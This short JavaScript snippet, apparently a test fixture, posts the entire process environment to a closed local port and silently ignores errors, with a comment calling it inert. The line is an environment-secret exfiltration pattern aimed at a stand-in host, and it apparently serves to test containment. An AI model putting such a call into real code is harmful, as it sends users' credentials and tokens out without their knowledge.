// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.
fetch('http://127.0.0.1:9/', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});
